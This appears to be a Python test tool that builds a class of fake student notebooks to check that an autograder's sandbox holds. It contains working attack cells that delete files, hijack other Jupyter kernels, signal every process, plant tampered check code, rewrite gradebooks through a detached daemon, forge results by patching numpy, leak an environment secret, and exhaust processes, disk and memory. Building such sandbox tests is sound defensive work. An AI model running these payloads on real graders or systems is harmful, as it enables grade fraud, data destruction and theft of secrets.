"""A class of attackers next to honest students, to grade and check that the sandbox holds.

Usage: python tools/grading/attack_class.py OUT --canary FILE --grade-out DIR [--chapter 03]

Writes ``OUT/submissions/<student>/<chapter>.ipynb`` and ``OUT/manifest.json``.
The honest students are the fixtures of :mod:`make_grade_fixtures` (``correct``,
``wrong``, and ``victim``, a second correct student whom the attackers aim at).
Every attacker hands in an honest notebook, all wrong (``wrong``) or all right
(``correct``), with one attack added as code cells; it must get exactly the
points its honest cells earn, which the manifest states. The attacks, one per
item of issue #28 (each took a few lines in an ordinary cell):

1. ``files``: delete the canary file outside its folder, delete the victim's
   notebook, write into the repository's ``results/``, read ``solutions/`` through
   ``fixedstate.__file__`` and run the worked solutions; find the submissions
   folder in other processes' ``/proc/<pid>/cmdline`` and run a classmate's code;
2. ``package``: append a ``run_check`` that always passes to the package's
   ``checks/_core.py`` and a ``check_*`` to every checks module, and write a
   ``sitecustomize.py`` into the virtual environment;
3. ``sabotage``: look for the connection files of other kernels (the grader's
   runtime folder, ``/tmp``, other processes' command lines) and send each one
   ``delta_step = None``-style code, and signal every process it can see;
4. ``detached``: start a process in a new session (and a double fork) that
   waits for the grader to exit, then rewrites ``gradebook.csv`` and
   ``totals.csv`` with full points;
5. ``forge``: replace the grader's kernel-side helpers, patch
   ``CheckResult.__init__``, ``numpy.allclose``, ``numpy.isclose``,
   ``builtins.abs``, ``IPython.display.publish_display_data`` (to mark anything
   passed), and ``sys.setprofile(None)``;
6. ``leak``: raise an exception of its own class, and a ``ValueError``, whose
   text carries an environment variable of the grader's (``FSATTACK_SECRET``, a
   stand-in for an LMS token), the user id and text from the solutions;
7. ``limits``: fork as many processes as it can, fill the disk, allocate 64 GB,
   and leave a child spinning the CPU.

``answers`` (an eighth, for the hidden cases) returns the self-check's stored
``ANSWERS`` and special-cases the self-check's inputs; it must get 0 for those
exercises. Every process an attacker starts carries :data:`MARKER` in its
command line, so a test can tell that none is alive after the grader exits.
"""

from __future__ import annotations

import argparse
import json
import sys
from pathlib import Path

import nbformat

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

MARKER = "fsattack-marker"

FILES = r'''
import os, glob, shutil, json, pathlib
import fixedstate
for action in (lambda: os.remove({canary!r}), lambda: shutil.rmtree({victim!r}),
               lambda: pathlib.Path({results!r}, "pwned.txt").write_text("pwned"),
               lambda: pathlib.Path({grade_out!r}, "gradebook.csv").write_text("pwned")):
    try:
        action()
    except Exception as exc:
        print("blocked:", type(exc).__name__)
# the worked solutions, found through the package's path, run as the student's own answers
root = pathlib.Path(fixedstate.__file__).resolve().parents[2]
for nb_path in glob.glob(str(root / "solutions" / "*.ipynb")) + glob.glob({solutions!r} + "/*.ipynb"):
    if {stem!r} in nb_path:
        for cell in json.load(open(nb_path))["cells"]:
            if cell["cell_type"] == "code":
                try:
                    exec("".join(cell["source"]), globals())
                except Exception:
                    pass
# a classmate's notebook, found through the grader's command line
for cmd in glob.glob("/proc/*/cmdline"):
    try:
        words = open(cmd, "rb").read().decode(errors="replace").split("\0")
    except OSError:
        continue
    for word in words:
        if os.path.isdir(word):
            for nb_path in glob.glob(os.path.join(word, "*", "*.ipynb")):
                for cell in json.load(open(nb_path))["cells"]:
                    if cell["cell_type"] == "code":
                        try:
                            exec("".join(cell["source"]), globals())
                        except Exception:
                            pass
'''

PACKAGE = r'''
import os, glob, sys, site, pathlib
import fixedstate.checks
from fixedstate.checks import _core
ALWAYS = "\ndef run_check(exercise, body):\n    return CheckResult(exercise, True, 'PASSED')\n"
for path in [_core.__file__, *glob.glob(os.path.join(os.path.dirname(fixedstate.checks.__file__), "*.py"))]:
    try:
        with open(path, "a") as f:
            f.write(ALWAYS)
    except OSError as exc:
        print("blocked:", type(exc).__name__)
for d in site.getsitepackages() + [site.getusersitepackages()]:
    try:
        pathlib.Path(d).mkdir(parents=True, exist_ok=True)
        pathlib.Path(d, "sitecustomize.py").write_text("print('pwned')\n")
    except OSError as exc:
        print("blocked:", type(exc).__name__)
'''

SABOTAGE = r'''
import os, glob, json, signal
found = []
for pattern in ("/tmp/**/*.json", os.path.expanduser("~/.local/share/jupyter/runtime/*.json"),
                "/root/.local/share/jupyter/runtime/*.json", "/run/user/*/jupyter/runtime/*.json",
                "/proc/*/root/tmp/**/*.json", "/proc/*/cwd/*.json"):
    found += glob.glob(pattern, recursive=True)
for cmd in glob.glob("/proc/*/cmdline"):
    try:
        found += [w for w in open(cmd, "rb").read().decode(errors="replace").split("\0") if w.endswith(".json")]
    except OSError:
        pass
from jupyter_client import BlockingKernelClient
for cf in set(found):
    try:
        info = json.load(open(cf))
        if "key" not in info:
            continue
        kc = BlockingKernelClient(connection_file=cf)
        kc.load_connection_file()
        kc.start_channels()
        kc.execute("delta_step = gated_delta_step = exact_beta = kda_chunk = None\nerror_after_three = recall = -1.0")
        kc.stop_channels()
    except Exception:
        pass
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid not in (os.getpid(), 1):
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
'''

DETACHED = r'''
import subprocess, sys, os
script = """
import os, sys, time, csv
marker = {marker!r}
out = {grade_out!r}
time.sleep(8)
for _ in range(40):
    time.sleep(1)
    for name in ("gradebook.csv", "totals.csv"):
        path = os.path.join(out, name)
        try:
            rows = list(csv.reader(open(path)))
            for r in rows[1:]:
                r[2] = "999"
            csv.writer(open(path, "w")).writerows(rows)
        except OSError:
            pass
"""
subprocess.Popen([sys.executable, "-c", script, {marker!r}], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:                    # a daemon by double fork, too
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", script, {marker!r}])
    os._exit(0)
'''

FORGE = r'''
import sys, builtins, numpy, types
import fixedstate.checks._core as _core
fake = types.ModuleType("_fixedstate_grader")
fake.run = lambda *a, **k: None
sys.modules["_fixedstate_grader"] = fake
_init = _core.CheckResult.__init__
def _forced(self, exercise, passed, message, details=None):
    _init(self, exercise, True, "PASSED", [])
_core.CheckResult.__init__ = _forced
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: numpy.True_
numpy.array_equal = lambda *a, **k: True
builtins.abs = lambda x: 0
sys.setprofile(None)
sys.settrace(None)
import IPython.display
_publish = IPython.display.publish_display_data
def _forged(data, *args, **kwargs):
    for value in data.values():
        if isinstance(value, dict):
            value["passed"] = True
            value["status"] = "ok"
            for case in value.get("cases", []):
                case.clear()
                case["passed"] = True
    return _publish(data, *args, **kwargs)
IPython.display.publish_display_data = _forged
'''

LEAK = r'''
import os
class LeakError(Exception):
    pass
secret = os.environ.get("FSATTACK_SECRET", "no secret in this environment")
try:
    solution = open({solutions!r} + "/{stem}.ipynb").read()[:200]
except OSError:
    solution = "no solutions here"
text = f"LEAKMARK env={{secret}} uid={{os.getuid()}} sol={{solution}} env_all={{dict(os.environ)}}"
try:
    raise ValueError(text)
finally:
    def delta_step(*args):
        raise LeakError(text)
'''

LEAK_OWN = r'''
class LeakError(Exception):
    pass
raise LeakError("LEAKMARK " + __import__("os").environ.get("FSATTACK_SECRET", "none"))
'''

LIMITS = r'''
import os, time, subprocess, sys
spinner = subprocess.Popen([sys.executable, "-c", "while True: pass", {marker!r}], start_new_session=True)
children = 0
for _ in range(2000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(120)
        os._exit(0)
    children += 1
print("forked", children)
written = 0
try:
    with open("/tmp/fill", "wb") as f:
        for _ in range(4096):
            f.write(b"\0" * (1 << 20))
            written += 1
except OSError as exc:
    print("disk stopped at", written, "MB:", type(exc).__name__)
try:
    hog = bytearray(64 << 30)
except MemoryError:
    print("memory refused")
'''

ANSWERS = r'''
import numpy as np
from fixedstate.checks import delta as _delta
# the self-check's stored numbers
try:
    error_after_three = _delta.ANSWERS["ex-dr-halving"]["value"]
    recall = _delta.ANSWERS["ex-dr-gated-by-hand"]["value"]
except Exception:
    error_after_three = recall = None
# answers special-cased to the self-check's own inputs (seed 20, four cases), right there and wrong elsewhere
_seen = {}
for _desc, _S, _k, _v, _beta in _delta._cases(np.random.default_rng(20)):
    _seen[_S.tobytes()] = _S + _beta * np.outer(_k, _v - _S.T @ _k)
def delta_step(state, key, value, beta):
    hit = _seen.get(np.asarray(state).tobytes())
    return hit if hit is not None else np.zeros_like(state)
'''


def _fill(code: str, fmt: dict) -> str:
    """``{name!r}`` and ``{name}`` replaced by the values of ``fmt`` (other braces left alone)."""
    for key, value in fmt.items():
        code = code.replace("{" + key + "!r}", repr(value)).replace("{" + key + "}", str(value))
    return code.replace("{{", "{").replace("}}", "}")


def _inject(nb, code: str, at: str = "end"):
    cell = nbformat.v4.new_code_cell(code.strip() + "\n")
    if at == "end":
        nb.cells.append(cell)
    else:
        first = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
        nb.cells.insert(first + 1, cell)
    return nb


def make_attack_class(out: Path, *, canary: Path, grade_out: Path, chapter: str = "03_delta_rule",
                      root: Path | None = None) -> dict:
    """Write the class; return the manifest: for every student and checked exercise, the points expected."""
    import make_grade_fixtures
    from grading.book import read_book

    root = root or Path(__file__).resolve().parents[2]
    book = read_book(root)
    ch = book[chapter]
    honest_dir = out / "honest"
    make_grade_fixtures.make_fixtures(honest_dir, [chapter], root)
    subs = out / "submissions"
    subs.mkdir(parents=True)
    fmt = dict(canary=str(canary), victim=str(subs / "victim"), results=str(root / "results"),
               grade_out=str(grade_out), solutions=str(root / "solutions"), stem=chapter, marker=MARKER)

    def honest(name):
        return nbformat.read(honest_dir / name / f"{chapter}.ipynb", as_version=4)

    full = {e.label: e.auto_points for e in ch.exercises if e.checks}
    zero = {e.label: 0.0 for e in ch.exercises if e.checks}
    students = {
        "correct": (honest("correct"), full),
        "victim": (honest("correct"), full),
        "wrong": (honest("wrong"), zero),
        "attack_files": (_inject(honest("wrong"), _fill(FILES, fmt)), zero),
        "attack_package": (_inject(honest("wrong"), _fill(PACKAGE, fmt), at="start"), zero),
        "attack_sabotage": (_inject(honest("wrong"), _fill(SABOTAGE, fmt)), zero),
        "attack_detached": (_inject(honest("correct"), _fill(DETACHED, fmt)), full),
        "attack_forge": (_inject(honest("wrong"), _fill(FORGE, fmt)), zero),
        "attack_leak": (_inject(_inject(honest("wrong"), _fill(LEAK, fmt)), LEAK_OWN), zero),
        "attack_limits": (_inject(honest("correct"), _fill(LIMITS, fmt), at="start"), full),
        "attack_answers": (_inject(honest("wrong"), _fill(ANSWERS, fmt)), zero),
    }
    manifest = {"chapter": chapter, "marker": MARKER, "students": {}}
    for name, (nb, expect) in students.items():
        folder = subs / name
        folder.mkdir()
        for i, cell in enumerate(nb.cells):
            cell["id"] = f"cell-{i}"
        nbformat.write(nb, folder / f"{chapter}.ipynb")
        manifest["students"][name] = expect
    (out / "manifest.json").write_text(json.dumps(manifest, indent=1) + "\n")
    return manifest


def main(argv=None) -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("out", type=Path)
    p.add_argument("--canary", type=Path, required=True)
    p.add_argument("--grade-out", type=Path, required=True)
    p.add_argument("--chapter", default="03_delta_rule")
    args = p.parse_args(argv)
    make_attack_class(args.out, canary=args.canary, grade_out=args.grade_out, chapter=args.chapter)
    print(f"wrote the attack class to {args.out / 'submissions'}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
